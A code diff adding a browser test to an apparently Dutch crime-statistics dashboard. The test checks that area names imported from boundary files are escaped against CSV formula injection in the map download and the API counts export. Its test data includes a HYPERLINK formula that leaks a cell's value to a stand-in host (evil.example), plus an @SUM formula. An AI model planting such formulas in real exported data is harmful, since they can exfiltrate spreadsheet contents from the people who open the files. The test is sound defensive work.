@@ -276,6 +276,60 @@ def test_areas_without_a_shape_keep_their_row_and_are_counted(page, demo_db, tmp
         server.stop()
 
 
+@pytest.mark.browser
+def test_area_names_from_a_boundary_file_never_arrive_as_formulas(page, demo_db, tmp_path):
+    """Area names come from boundary files (a beheerder's import). One that starts like a
+    formula reaches the Kaart's CSV and the API's counts CSV with a leading ', while the
+    numbers (a change of -5) stay numbers."""
+    import requests
+
+    from data.state import StateDB
+    from data.tokens import create_token
+    from .conftest import LiveServer, demo_copy
+
+    db = demo_copy(demo_db, tmp_path)
+    evil = {"=HYPERLINK(\"http://evil.example/?\"&A3,\"klik\")": None, "@SUM(1+1)": None,
+            "+31 6 12345678": None}
+    with duckdb.connect(str(db)) as write:
+        codes = [c for c, in write.execute(
+            "SELECT code FROM areas WHERE level = 'buurt' AND gm_code = 'GMD001' ORDER BY code"
+            " LIMIT 3").fetchall()]
+        for name, code in zip(list(evil), codes):
+            evil[name] = code
+            write.execute("UPDATE areas SET name = ? WHERE code = ?", [name, code])
+    state = tmp_path / "appstate.sqlite"
+    server = LiveServer(db, env={"DASHBOARD_STATE_DB": str(state)})
+    try:
+        login(page, server, "analist")
+        page.goto(f"{server.url}/kaart?niveau=buurt&gebied=GMD001&type=alle_misdrijven"
+                  "&periode=12m&maat=change")
+        _wait_for_panel(page, "Verandering")
+        with page.expect_download() as info:
+            page.click("#kaart-csv")
+        table = list(csv.reader(io.StringIO(open(info.value.path(), "rb").read()
+                                            .decode("utf-8-sig")), delimiter=";"))
+        names = {row[1]: row[0] for row in table[1:]}
+        for name, code in evil.items():
+            assert names[code] == "'" + name
+        cells = [c for row in table for c in row]
+        assert not [c for c in cells if c[:1] in ("=", "@", "\t", "\r")]
+        changes = [row[5] for row in table[1:]]  # Verschil: signed numbers as written
+        assert any(c.startswith("-") for c in changes) and any(c.startswith("+") for c in changes)
+        token = create_token(StateDB(state), "analist", label="test", by="analist")[1]
+        response = requests.get(server.url + "/api/v1/counts", timeout=60, headers={
+            "Authorization": f"Bearer {token}"}, params={"level": "buurt", "area": "GMD001",
+                                                        "measure": "change", "format": "csv"})
+        assert response.status_code == 200, response.text[:300]
+        rows = list(csv.DictReader(io.StringIO(response.text), delimiter=";"))
+        named = {row["code"]: row["name"] for row in rows}
+        for name, code in evil.items():
+            assert named[code] == "'" + name
+        values = [row["change"] for row in rows if row["change"]]
+        assert any(v.startswith("-") for v in values), values[:20]  # numbers untouched
+    finally:
+        server.stop()
+
+
 def test_imported_buurt_counts_fill_a_year_before_the_incidents(demo_db, tmp_path):
     """A year before the incident registration, covered by an imported buurt table (tidy
     layout, as a CBS buurt table is written): the map values per buurt are that table's
